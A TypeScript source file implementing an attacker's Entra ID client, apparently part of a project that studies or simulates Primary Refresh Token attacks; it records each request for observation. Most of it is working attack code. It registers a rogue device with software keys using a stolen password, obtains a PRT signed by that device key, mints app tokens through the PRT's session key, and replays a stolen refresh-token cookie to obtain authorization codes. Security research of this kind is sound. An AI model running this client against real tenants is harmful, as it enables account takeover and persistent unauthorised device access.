/**
 * The attacker's own Entra client, in the manner of roadtx and AADInternals (docs/peers.md §1.1,
 * §1.2), over the wire formats of protocol/: the password and refresh-token grants, device
 * registration with software keys (prt-protocol §2), the PRT request signed by the device key
 * (§4) and app tokens through the PRT, signed with the session key (§6.1). It shares no code with
 * the device agent's request path: the attacker is another program on another host.
 */
import {
  generateKeyPairSync,
  type KeyObject,
  randomBytes,
  sign as rsaSign,
  X509Certificate,
} from 'node:crypto';
import { deviceCsr } from '../../agent/certificates.ts';
import {
  BROKER_PLUGIN_CLIENT_ID,
  BROKER_PLUGIN_ISSUER,
  brokerRedirectUri,
  DRS_RESOURCE,
  decryptResponse,
  ESTS_AUDIENCE,
  encodeRsaBlob,
  GRANT_TYPE,
  PRT_SCOPE,
  signRs256,
  signWithSessionKey,
  unwrapSessionKeyJwe,
  WINDOWS_BROKER_CLIENT_ID,
} from '../../protocol/index.ts';
import { type Answer, httpsCall, postForm, recordOf, type Target } from './http.ts';
import type { RequestRecord } from './protocol.ts';

/** The Windows build the attacker's requests claim (what roadtx sends by default is similar). */
const WIN_VER = '10.0.22631.4460';

export interface SoftwareDevice {
  readonly deviceId: string;
  readonly certificateDer: Buffer;
  readonly deviceKey: KeyObject;
  readonly transportKey: KeyObject;
}

export interface PrtSession {
  readonly prt: string;
  readonly sessionKey: Buffer;
}

/** The attacker's conversation with the cloud: every request is kept for the observation. */
export class EntraClient {
  readonly records: RequestRecord[] = [];

  readonly target: Target;
  readonly tenant: string;

  constructor(target: Target, tenant: string) {
    this.target = target;
    this.tenant = tenant;
  }

  private keep(what: string, a: Answer): Answer {
    this.records.push(recordOf(what, a));
    return a;
  }

  /** A form POST to the v1 token endpoint. */
  async token(
    what: string,
    fields: Record<string, string>,
    headers: Record<string, string> = {},
  ): Promise<Answer> {
    return this.keep(
      what,
      await postForm(this.target, `/${this.tenant}/oauth2/token`, fields, headers),
    );
  }

  /** A raw form body to the token endpoint, exactly as given (a captured request's). */
  async tokenBody(what: string, body: string): Promise<Answer> {
    return this.keep(
      what,
      await httpsCall(this.target, `/${this.tenant}/oauth2/token`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body,
      }),
    );
  }

  /**
   * The browser's half of the authorization code flow (RFC 6749 §4.1.1) with an
   * x-ms-RefreshTokenCredential in `headers` (prt-protocol §6.3): GET /authorize; when the cloud
   * answers ESTS's redirect back to itself with a fresh `sso_nonce` (§3 "Browser variant"),
   * follow it once with the same headers (the attacker cannot sign a cookie over the new nonce);
   * then read the code off the redirect to `redirectUri`, whose `state` must be ours. The redirect
   * URI is never contacted, as a native client only reads it.
   */
  async authorizationCode(args: {
    query: Record<string, string>;
    headers: Record<string, string>;
    redirectUri: string;
    state: string;
  }): Promise<string | undefined> {
    const path = `/${this.tenant}/oauth2/authorize?${new URLSearchParams(args.query)}`;
    let a = this.keep(
      'GET /authorize with the stolen cookie',
      await httpsCall(this.target, path, { headers: args.headers }),
    );
    const self = a.location ? this.#ownAuthorizeRedirect(a.location) : undefined;
    if (a.status === 302 && self !== undefined) {
      a = this.keep(
        'GET /authorize again, at the URL with the fresh sso_nonce, with the same cookie',
        await httpsCall(this.target, self, { headers: args.headers }),
      );
    }
    if (a.status !== 302 || a.location === undefined) return undefined;
    let url: URL;
    try {
      url = new URL(a.location);
    } catch {
      return undefined;
    }
    if (`${url.origin}${url.pathname}` !== args.redirectUri) return undefined;
    if (url.searchParams.get('state') !== args.state) return undefined;
    return url.searchParams.get('code') ?? undefined;
  }

  /** The path and query of a redirect to this cloud's own /authorize, else undefined. */
  #ownAuthorizeRedirect(location: string): string | undefined {
    try {
      const url = new URL(location);
      if (url.origin !== new URL(this.target.base).origin) return undefined;
      return /\/oauth2\/(v2\.0\/)?authorize$/.test(url.pathname)
        ? `${url.pathname}${url.search}`
        : undefined;
    } catch {
      return undefined;
    }
  }

  /** GET with a bearer access token (a resource call). */
  async bearerGet(what: string, path: string, accessToken: string): Promise<Answer> {
    return this.keep(
      what,
      await httpsCall(this.target, path, { headers: { authorization: `Bearer ${accessToken}` } }),
    );
  }

  /** `srv_challenge` (§3); not recorded, it is no sign-in. */
  async nonce(): Promise<string> {
    const a = await postForm(this.target, `/${this.tenant}/oauth2/token`, {
      grant_type: GRANT_TYPE.srvChallenge,
    });
    const nonce = a.status === 200 ? JSON.parse(a.body).Nonce : undefined;
    if (typeof nonce !== 'string') throw new Error(`srv_challenge answered HTTP ${a.status}`);
    return nonce;
  }

  /** Sends a session-key-signed or device-key-signed request JWT (§4.1, §6.1). */
  signedRequest(what: string, jwt: string): Promise<Answer> {
    return this.token(what, {
      grant_type: GRANT_TYPE.jwtBearer,
      request: jwt,
      windows_api_version: '2.0',
      client_info: '1',
    });
  }

  /**
   * Registers (joins, JoinType 0) a device of the attacker's own: RSA-2048 device and transport
   * keys made in software, the CSR signed with the device key, a DRS token from the stolen
   * password (§2). DRS asks for no attestation (`AikCertificate` is optional, §8).
   */
  async registerDevice(drsToken: string, domain: string): Promise<SoftwareDevice | undefined> {
    const dk = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const tk = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const csr = await deviceCsr(dk.publicKey, async (data) =>
      rsaSign('sha256', data, dk.privateKey),
    );
    const body = JSON.stringify({
      CertificateRequest: { Type: 'pkcs10', Data: csr.toString('base64') },
      TransportKey: encodeRsaBlob(tk.publicKey).toString('base64'),
      TargetDomain: domain,
      DeviceType: 'Windows',
      OSVersion: WIN_VER,
      DeviceDisplayName: `DESKTOP-${randomBytes(4).toString('hex').toUpperCase()}`,
      JoinType: 0,
      attributes: { ReuseDevice: 'true', ReturnClientSid: 'true' },
    });
    const a = this.keep(
      'device registration (DRS join with software keys)',
      await httpsCall(this.target, '/EnrollmentServer/device/?api-version=2.0', {
        method: 'POST',
        headers: {
          authorization: `Bearer ${drsToken}`,
          'content-type': 'application/json',
          'user-agent': `Dsreg/10.0 (Windows ${WIN_VER})`,
        },
        body,
      }),
    );
    if (a.status !== 200) return undefined;
    const der = Buffer.from(JSON.parse(a.body).Certificate.RawBody, 'base64');
    const deviceId = new X509Certificate(der).subject.replace(/^CN=/, '');
    return { deviceId, certificateDer: der, deviceKey: dk.privateKey, transportKey: tk.privateKey };
  }

  /** The PRT request (§4): password grant inside a JWT signed by the device key, `kdf_ver: 2`. */
  async requestPrt(
    device: SoftwareDevice,
    username: string,
    password: string,
  ): Promise<PrtSession | undefined> {
    const jwt = signRs256(
      device.deviceKey,
      { typ: 'JWT', x5c: [device.certificateDer.toString('base64')], kdf_ver: 2 },
      {
        client_id: WINDOWS_BROKER_CLIENT_ID,
        request_nonce: await this.nonce(),
        scope: PRT_SCOPE,
        group_sids: [],
        win_ver: WIN_VER,
        grant_type: 'password',
        username,
        password,
      },
    );
    const a = await this.signedRequest('PRT request signed by its own device key', jwt);
    if (a.status !== 200) return undefined;
    const json = JSON.parse(a.body);
    return {
      prt: json.refresh_token,
      sessionKey: unwrapSessionKeyJwe(json.session_key_jwe, device.transportKey),
    };
  }

  /**
   * An app token through a PRT (§6.1, WAM's payload), signed with `sessionKey`; the answer is
   * decrypted with the same key. With the wrong session key the cloud refuses the signature.
   */
  async appTokenViaPrt(
    what: string,
    refreshToken: string,
    sessionKey: Uint8Array,
    args: { clientId: string; resource: string; appVersion?: string },
  ): Promise<{ answer: Answer; json?: Record<string, unknown> }> {
    const now = Math.floor(Date.now() / 1000);
    const jwt = signWithSessionKey(sessionKey, {
      client_id: args.clientId,
      grant_type: 'refresh_token',
      refresh_token: refreshToken,
      request_nonce: await this.nonce(),
      scope: 'openid',
      resource: args.resource,
      redirect_uri: brokerRedirectUri(args.clientId),
      iss: BROKER_PLUGIN_ISSUER,
      aud: ESTS_AUDIENCE,
      win_ver: WIN_VER,
      ...(args.appVersion !== undefined ? { app_ver: args.appVersion } : {}),
      iat: String(now),
      exp: String(now + 300),
    });
    const answer = await this.signedRequest(what, jwt);
    if (answer.status !== 200) return { answer };
    const plain = decryptResponse(answer.body.trim(), sessionKey).plaintext;
    return { answer, json: JSON.parse(plain.toString('utf8')) };
  }

  /** A DRS access token for the user, as the broker plugin gets one (§2). */
  async drsToken(username: string, password: string): Promise<string | undefined> {
    const a = await this.token('DRS token by password (broker plugin client)', {
      grant_type: GRANT_TYPE.password,
      client_id: BROKER_PLUGIN_CLIENT_ID,
      resource: DRS_RESOURCE,
      username,
      password,
    });
    return a.status === 200 ? JSON.parse(a.body).access_token : undefined;
  }
}
